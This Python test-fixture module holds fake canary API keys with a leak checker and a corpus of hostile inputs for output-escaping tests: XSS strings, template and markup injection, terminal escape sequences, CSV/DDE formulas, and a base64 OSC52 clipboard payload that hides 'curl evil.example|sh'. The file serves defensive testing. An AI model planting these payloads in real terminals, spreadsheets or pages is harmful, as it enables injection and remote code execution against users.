"""Canary secrets, the hostile payload corpus, and the checks run over every output.

Shared by the canary (P1/P2) and escaping (P6) tests so every sink is checked against
the same inputs.
"""

from __future__ import annotations

import re

# --------------------------------------------------------------------------- P1 canaries

CANARY_SK = "sk_live_CANARYa1b2c3d4e5f6g7h8i9"
CANARY_SK2 = "sk_live_CANARYm1n2b3v4c5x6z7l8k9"
CANARY_RK = "rk_live_CANARYz9y8x7w6v5u4t3s2"
CANARY_GH = "ghp_CANARYq1w2e3r4t5y6u7i8o9p0a1s2"
CANARY_KS = "ks_live_CANARYapikey0p9o8i7u6y5t4"
"""A partner API key (what ``KEYSCOPE_API_KEY`` holds)."""
CANARIES = (CANARY_SK, CANARY_SK2, CANARY_RK, CANARY_GH, CANARY_KS)


def _secret_windows(canary: str) -> set[str]:
    """Every 8-character window of ``canary`` that reaches past its type prefix.

    The type prefix (``sk_live_``) is public by design: a masked value shows it, plus
    the last four characters.  Any window touching the secret part is a leak.
    """
    body = canary.index("CANARY")
    return {canary[i : i + 8] for i in range(len(canary) - 7) if i + 8 > body}


_WINDOWS = {canary: _secret_windows(canary) for canary in CANARIES}


def leaks(text: str | bytes) -> list[str]:
    """The canary fragments (8+ characters of a secret part) found in ``text``."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", errors="replace")
    return sorted({window for windows in _WINDOWS.values() for window in windows if window in text})


# --------------------------------------------------------------------------- P6 payloads

MEGABYTE = "M" * (1 << 20)

PAYLOADS: dict[str, str] = {
    "img_onerror": "<img src=x onerror=alert(1)>",
    "attr_breaker": "\"'><script>alert(1)</script>",
    "script_close": "</script><img src=x onerror=alert(2)>",
    "javascript_link": "javascript:alert(1)",
    "jinja": "{{7*7}} {% for x in range(3) %}loop{% endfor %}",
    "rich_link": "[link=https://evil.example]rotate me[/link]",
    "rich_close": "[/b] prod x[/]",
    "rich_todo": "[TODO] Q3 billing [IMPORTANT]",
    "textual_action": "[@click=app.quit]quit[/]",
    "ansi_clear": "\x1b[2J\x1b[?1049hclear",
    "osc_title": "\x1b]0;pwned\x07title",
    "osc52": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07clip",
    "osc8_link": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "c1_csi": "\x9b31mred\x9d0;t\x9c",
    "bidi": "invoice\u202egnp.exe \u2066x\u2069 zero\u200bwidth",
    "homoglyph": "pr\u043ed",
    "csv_formula": '=HYPERLINK("https://x?"&A1)',
    "csv_plus": "+cmd|' /C calc'!A0",
    "csv_at": "@SUM(1)",
    "csv_tab": "\t=1",
    "csv_cr": "\r=1",
    "csv_minus": "-1+1",
    "crlf": "line one\r\nforged: log line\nthird",
    "nul": "nul\x00byte",
    "lone_surrogate": "lone\ud800surrogate",
    "markdown": "**b** [x](https://evil.example) ![i](https://evil.example/t.png) | c | @team :x:",
    "empty": "",
    "megabyte": MEGABYTE,
}
"""Hostile text for every free-text field (P6 corpus + BAD-INPUTS #17-#26)."""

TERMINAL_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""Bytes a terminal or a log must never receive (tab and newline allowed)."""

CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
